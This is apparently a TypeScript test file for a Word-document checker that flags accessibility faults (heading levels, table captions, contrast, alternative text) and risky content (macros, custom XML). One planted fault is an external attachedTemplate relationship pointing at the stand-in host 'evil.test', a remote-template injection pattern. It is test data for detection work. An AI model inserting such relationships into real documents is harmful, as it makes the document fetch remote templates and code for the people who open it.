// The checker of Word files finds each fault that is planted in a good file.
import { beforeAll, expect, test } from "vitest";
import { writeWord } from "../../../src/office/word.ts";
import { checkWord } from "./checkWord.ts";
import { blocks, documentOf, greyPng } from "./everyBlock.ts";
import { altered } from "./unpack.ts";

let good = new Uint8Array();
beforeAll(async () => {
  good = (await writeWord(documentOf(blocks), { png: greyPng })) as Uint8Array<ArrayBuffer>;
});

test("a document with every kind of block has no fault", () => {
  expect(checkWord(good)).toEqual([]);
});

type Change = Parameters<typeof altered>[1];

const body = "word/document.xml";
const replaced = (path: string, from: string | RegExp, to: string): Change => ({
  [path]: (text: string) => text.replace(from, to),
});
const external =
  '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/></Relationships>';

const planted: readonly [fault: string, change: Change, said: string][] = [
  ["a heading that skips a level", replaced(body, '"Heading2"', '"Heading3"'), "skips a level"],
  [
    "a heading without an outline level",
    replaced("word/styles.xml", '<w:outlineLvl w:val="2"/>', ""),
    "no outline level",
  ],
  ["a table without a header row", replaced(body, "<w:tblHeader/>", ""), "Table 1 has no header row"],
  ["a table without a caption", replaced(body, /<w:tblCaption[^>]*>/, ""), "Table 1 has no caption"],
  ["a table without a description", replaced(body, /<w:tblDescription[^>]*>/, ""), "Table 1 has no description"],
  ["merged cells", replaced(body, "<w:tcPr>", '<w:tcPr><w:gridSpan w:val="2"/>'), "Table 1 has merged cells"],
  ["an empty cell", replaced(body, ">Publish it<", "><"), "Table 1 has 1 empty cells"],
  ["a row that may be split", replaced(body, /<w:cantSplit\/>(?!<w:tblHeader)/, ""), "may be split between pages"],
  ["an empty paragraph", replaced(body, "<w:tbl>", "<w:p/><w:tbl>"), "There is an empty paragraph"],
  ["a picture without alternative text", replaced(body, / descr="9[^"]*"/, ""), "has no alternative text"],
  ["no language", replaced("word/styles.xml", /<w:lang [^>]*>/, ""), "no language"],
  ["no title", replaced("docProps/core.xml", /<dc:title>.*<\/dc:title>/, ""), "no title"],
  ["no author", replaced("docProps/core.xml", /(<dc:creator>).*(<\/dc:creator>)/, "$1Un-named$2"), "no author"],
  [
    "pale text on a pale ground",
    replaced(body, '<w:color w:val="FFFFFF"/>', '<w:color w:val="F08080"/>'),
    "contrast of",
  ],
  [
    "pale text on paper",
    replaced(body, "<w:r><w:t", '<w:r><w:rPr><w:color w:val="AAAAAA"/></w:rPr><w:t'),
    "contrast of 2.3",
  ],
  [
    "a relationship that leads out",
    replaced("word/_rels/document.xml.rels", "</Relationships>", external),
    "evil.test",
  ],
  ["a macro", { "word/vbaProject.bin": "x" }, "word/vbaProject.bin"],
  ["custom XML", { "customXml/item1.xml": "<a/>" }, "customXml/item1.xml"],
  ["XML that does not parse", replaced(body, "</w:body>", ""), "word/document.xml is no XML"],
];

test.each(planted)("%s is found", (_, change, said) => {
  expect(checkWord(altered(good, change))).toContainEqual(expect.stringContaining(said));
});

test("a planted fault is told and no other one", () => {
  for (const [, change] of planted) expect(checkWord(altered(good, change))).toHaveLength(1);
});
